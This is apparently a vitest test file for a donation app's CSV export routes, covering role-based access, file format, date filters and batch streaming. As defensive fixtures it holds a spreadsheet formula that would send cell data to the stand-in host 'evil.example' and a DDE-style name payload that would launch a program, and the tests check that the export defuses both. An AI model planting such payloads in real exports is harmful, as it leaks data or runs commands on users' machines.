import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { acceptRequest, createUsers, postDonation, requestDonation, verifyDonation } from '../testing/donation-flow.ts';
import { csvObjects, parseCsv } from '../testing/parse-csv.ts';
import { createTestApp, createUser, type TestApp, type TestUser } from '../testing/test-app.ts';
import { EXPORT_BATCH_ROWS } from './exports.ts';

// Issue 12: CSV exports, each role's own rows, safe to open in a spreadsheet, and streamed in batches.
let t: TestApp;
let admin: TestUser;
let restaurant: TestUser;
let otherRestaurant: TestUser;
let charity: TestUser;
let otherCharity: TestUser;
let plain: TestUser;
/** restaurant's donations: picked up by charity with a report, Pending, given to charity but not collected yet. */
let picked: string;
let pending: string;
let accepted: string;
/** otherRestaurant's, collected by otherCharity with nothing taken. */
let nothingTaken: string;
let deleted: string;

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const AWKWARD_NOTE = 'Two trays, one "cold";\r\nthe other\nspoiled';

const pickup = (id: string, who: TestUser, body?: unknown) => t.request('PATCH', `/donations/pickup/${id}`, { token: who.token, body });

/** A donation of `owner` given to `to` and, unless `collect` is false, picked up with `report`. */
async function give(owner: TestUser, to: TestUser, title: string, report?: unknown, collect = true): Promise<string> {
  const id = await postDonation(t, owner, { title, quantity: 14, unit: 'kg' });
  await verifyDonation(t, admin, id);
  await acceptRequest(t, owner, await requestDonation(t, to, id));
  if (collect) expect((await pickup(id, to, report)).status).toBe(200);
  return id;
}

/** The export as text, after checking it is a CSV attachment. */
async function download(path: string, who: TestUser): Promise<string> {
  const res = await t.app.request(path, { headers: { authorization: `Bearer ${who.token}` } });
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return text;
}

const rowsOf = async (path: string, who: TestUser) => csvObjects(await download(path, who));
const ids = (rows: Record<string, string>[], key = 'donationId') => rows.map((r) => r[key]).sort();
const liveDonationIds = async (where: 'all' | 'picked') =>
  (await t.sql<{ id: string }[]>`SELECT id FROM donations WHERE NOT deleted AND (${where === 'all'} OR status = 'Picked')`)
    .map((r) => r.id)
    .sort();

beforeAll(async () => {
  t = await createTestApp();
  [admin, restaurant, otherRestaurant, charity, otherCharity] = await createUsers(t, ['admin', 'restaurant', 'restaurant', 'charity', 'charity']);
  plain = await createUser(t, { name: '@SUM(1+1)*cmd|" /C calc"!A0' });
  picked = await give(restaurant, charity, FORMULA_TITLE, { weightKg: 12.5, outcome: 'part', note: AWKWARD_NOTE });
  pending = await postDonation(t, restaurant, { title: 'Soup, lentil', quantity: 3, unit: 'portions' });
  accepted = await give(restaurant, charity, 'Apples', undefined, false);
  nothingTaken = await give(otherRestaurant, otherCharity, '-10 loaves', { weightKg: 0, outcome: 'none', reason: 'Nobody there' });
  deleted = await postDonation(t, restaurant, { title: 'Withdrawn' });
  expect((await t.del(`/donations/${deleted}`, restaurant.token)).status).toBe(200);
});
afterAll(() => t?.close());

describe('who exports what', () => {
  it("gives a restaurant exactly its own donations, with their outcomes", async () => {
    const rows = await rowsOf('/exports/donations.csv', restaurant);
    expect(ids(rows)).toEqual([picked, pending, accepted].sort());
    const row = rows.find((r) => r.donationId === picked)!;
    expect(row).toMatchObject({
      status: 'Picked',
      charityName: charity.name,
      charityEmail: charity.email,
      weightKg: '12.5',
      outcome: 'part',
      note: AWKWARD_NOTE,
      restaurantEmail: restaurant.email,
    });
    expect(new Date(row.pickedUpAt!).getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(rows.find((r) => r.donationId === pending)).toMatchObject({ status: 'Pending', charityName: '', pickedUpAt: '', weightKg: '', unit: 'portions', quantity: '3' });
    expect(rows.find((r) => r.donationId === accepted)).toMatchObject({ status: 'Accepted', charityName: charity.name, pickedUpAt: '' });
    expect(ids(await rowsOf('/exports/donations.csv', otherRestaurant))).toEqual([nothingTaken]);
  });

  it('gives an admin every donation but the deleted ones', async () => {
    const rows = await rowsOf('/exports/donations.csv', admin);
    expect(ids(rows)).toEqual(await liveDonationIds('all'));
    expect(ids(rows)).not.toContain(deleted);
    expect(rows.find((r) => r.donationId === nothingTaken)).toMatchObject({ outcome: 'none', reason: 'Nobody there', weightKg: '0' });
  });

  it('gives a charity exactly its own collected pickups with its reports, and an admin all of them', async () => {
    const own = await rowsOf('/exports/pickups.csv', charity);
    expect(ids(own)).toEqual([picked]);
    expect(own[0]).toMatchObject({ weightKg: '12.5', outcome: 'part', reason: '', note: AWKWARD_NOTE, restaurantName: restaurant.name });
    expect(own[0]!.reportedAt).not.toBe('');
    expect(ids(await rowsOf('/exports/pickups.csv', otherCharity))).toEqual([nothingTaken]);
    const all = await rowsOf('/exports/pickups.csv', admin);
    expect(ids(all)).toEqual(await liveDonationIds('picked'));
    expect(ids(all)).toEqual(expect.arrayContaining([picked, nothingTaken]));
  });

  it('gives an admin every live account, without secrets', async () => {
    const text = await download('/exports/users.csv', admin);
    const rows = csvObjects(text);
    const live = (await t.sql<{ id: string }[]>`SELECT id FROM users WHERE NOT deleted`).map((r) => r.id).sort();
    expect(ids(rows, 'userId')).toEqual(live);
    expect(rows.find((r) => r.userId === charity.id)).toMatchObject({ email: charity.email, role: 'charity', name: charity.name });
    expect(Object.keys(rows[0]!)).toEqual(['userId', 'createdAt', 'name', 'email', 'role', 'address', 'phone', 'mission', 'lastLogin']);
    expect(text).not.toMatch(/scrypt\$|password/i);
  });

  it.each([
    ['/exports/donations.csv', ['user', 'charity']],
    ['/exports/pickups.csv', ['user', 'restaurant']],
    ['/exports/users.csv', ['user', 'restaurant', 'charity']],
  ] as const)('refuses %s signed out (401) and to %j (403), with a message', async (path, refused) => {
    const anonymous = await t.get(path);
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.message).toBeTruthy();
    const who = { user: plain, restaurant, charity };
    for (const role of refused) {
      const res = await t.get(path, who[role].token);
      expect(res.status, role).toBe(403);
      expect(res.body.message).toMatch(/admin/i);
    }
  });
});

describe('the file', () => {
  it('is a UTF-8 CSV attachment named by the day, with a header row, a BOM and CRLF line ends', async () => {
    const res = await t.app.request('/exports/donations.csv', { headers: { authorization: `Bearer ${restaurant.token}` } });
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="donations-${today}.csv"`);
    expect(res.headers.get('cache-control')).toContain('no-store');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.endsWith('\r\n')).toBe(true);
    // Every line end outside a quoted field is CRLF: the strict reader refuses a bare LF or CR.
    const [header] = parseCsv(text);
    expect(header).toEqual([
      'donationId', 'postedAt', 'title', 'foodType', 'quantity', 'unit', 'bestBefore', 'location', 'restaurantName',
      'restaurantEmail', 'status', 'charityName', 'charityEmail', 'pickedUpAt', 'weightKg', 'outcome', 'reason', 'note',
    ]);
    for (const [path, who] of [['pickups', charity], ['users', admin]] as const) {
      const r = await t.app.request(`/exports/${path}.csv`, { headers: { authorization: `Bearer ${who.token}` } });
      expect(r.headers.get('content-disposition')).toBe(`attachment; filename="${path}-${today}.csv"`);
      await r.body?.cancel();
    }
  });

  it('neutralises cells a spreadsheet would run, and round-trips quotes, commas and line breaks', async () => {
    const text = await download('/exports/donations.csv', restaurant);
    const rows = csvObjects(text);
    expect(rows.find((r) => r.donationId === picked)!.title).toBe(`'${FORMULA_TITLE}`);
    expect(rows.find((r) => r.donationId === pending)!.title).toBe('Soup, lentil');
    expect(rows.find((r) => r.donationId === picked)!.note).toBe(AWKWARD_NOTE);
    // No raw cell of the file begins with a formula character.
    for (const record of parseCsv(text)) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const other = await rowsOf('/exports/donations.csv', otherRestaurant);
    expect(other[0]!.title).toBe("'-10 loaves");
    const users = await rowsOf('/exports/users.csv', admin);
    expect(users.find((r) => r.userId === plain.id)!.name).toBe(`'${plain.name}`);
  });
});

describe('date range', () => {
  beforeAll(async () => {
    await t.sql`UPDATE donations SET created_at = '2026-01-10T12:00:00Z' WHERE id = ${picked}`;
    await t.sql`UPDATE donations SET created_at = '2026-02-20T00:00:00Z' WHERE id = ${pending}`;
    await t.sql`UPDATE donations SET created_at = '2026-03-05T08:00:00Z' WHERE id = ${accepted}`;
    await t.sql`UPDATE donations SET pickup_date = '2026-01-11T09:30:00Z' WHERE id = ${picked}`;
  });
  const exported = async (query: string, who = restaurant) => ids(await rowsOf(`/exports/donations.csv?${query}`, who));

  it('filters donations by when they were posted: from inclusive, a `to` date taking in its whole day', async () => {
    expect(await exported('from=2026-01-01&to=2026-01-31')).toEqual([picked]);
    expect(await exported('from=2026-01-11&to=2026-02-20')).toEqual([pending]);
    expect(await exported('to=2026-02-19')).toEqual([picked]);
    expect(await exported('from=2026-02-20T00:00:00Z&to=2026-02-20T00:00:00Z')).toEqual([pending]);
    expect(await exported('from=2026-01-10T12:00:00.001Z&to=2026-02-19T23:59:59.999Z')).toEqual([]);
    // A time with an offset names the same instant: 09:00 in UTC+1 is 08:00 UTC.
    expect(await exported('from=2026-03-05T09:00:00%2B01:00')).toEqual([accepted]);
    // A time without an offset is read as UTC.
    expect(await exported('from=2026-03-05T08:00')).toEqual([accepted]);
    expect(await exported('from=2026-03-05T08:01')).toEqual([]);
  });

  it('filters pickups by when they were picked up', async () => {
    const pickups = async (query: string) => ids(await rowsOf(`/exports/pickups.csv?${query}`, charity));
    expect(await pickups('from=2026-01-11&to=2026-01-11')).toEqual([picked]);
    expect(await pickups('from=2026-01-11T09:30:00.001Z')).toEqual([]);
    expect(await pickups('to=2026-01-10')).toEqual([]);
  });

  it('filters accounts by when they were created', async () => {
    const users = async (query: string) => (await rowsOf(`/exports/users.csv?${query}`, admin)).length;
    const all = await users('');
    expect(all).toBeGreaterThanOrEqual(6);
    expect(await users(`from=${new Date(Date.now() - 3_600_000).toISOString()}`)).toBe(all);
    expect(await users('to=2000-01-01')).toBe(0);
  });

  it.each([
    ['from=yesterday', /from must be a date/],
    ['to=2026-02-30', /to must be a date/],
    ['from=2026-13-01', /from must be a date/],
    ['from=2026-01-01T25:00:00Z', /from must be a date/],
    ['to=2026-01-01T10:00:00%2B1', /to must be a date/],
    ['from=2026-02-01&to=2026-01-31', /from must not be after to/],
    ['from=2026-02-01T00:00:01Z&to=2026-02-01T00:00:00Z', /from must not be after to/],
  ])('refuses %s with a 400 that says why', async (query, message) => {
    for (const path of ['donations', 'pickups', 'users']) {
      const who = path === 'pickups' ? charity : admin;
      const res = await t.get(`/exports/${path}.csv?${query}`, who.token);
      expect(res.status, path).toBe(400);
      expect(res.body.message).toMatch(message);
    }
  });
});

describe('streaming', () => {
  // Three full batches and one row more: the last batch is short, and a batch boundary off by one would repeat or drop
  // a row there. How much memory the export holds is a figure of `npm run bench` (bench/export-heap.ts), at 100,000.
  const ROWS = 3 * EXPORT_BATCH_ROWS + 1;

  it(`writes ${ROWS.toLocaleString('en')} donations a batch at a time, each row once and in order, uncompressed`, async () => {
    const bulk = await createUser(t, { role: 'restaurant' });
    // One statement writes them all; created_at one second apart, the largest g the oldest.
    await t.sql`
      INSERT INTO donations (title, food_type, quantity, unit, pickup_time, location, image, restaurant_id,
                             restaurant_name, restaurant_email, status, created_at)
      SELECT 'Bulk donation ' || g, 'Bakery', 1 + g % 40, 'kg', '17:00-19:00', 'Bulk Street ' || g || ' Springfield',
             '/images/00000000-0000-4000-8000-000000000000', ${bulk.id}, ${bulk.name}, ${bulk.email}, 'Verified',
             '2026-01-01T00:00:00Z'::timestamptz - g * interval '1 second'
      FROM generate_series(1, ${ROWS}) AS g`;

    // Compressed answers are made whole before they are sent: the export must be left alone.
    const res = await t.app.request('/exports/donations.csv', {
      headers: { authorization: `Bearer ${bulk.token}`, 'accept-encoding': 'br, gzip' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-encoding')).toBeNull();
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let chunks = 0;
    let text = '';
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      text += decoder.decode(value, { stream: true });
    }
    text += decoder.decode();
    // Written a batch at a time, not in one piece.
    expect(chunks).toBeGreaterThanOrEqual(ROWS / EXPORT_BATCH_ROWS);
    const titles = csvObjects(text).map((r) => r.title);
    // The oldest first: g counts down from ROWS to 1, so no row is repeated, missing or out of place.
    expect(titles).toEqual(Array.from({ length: ROWS }, (_, i) => `Bulk donation ${ROWS - i}`));
  });
});
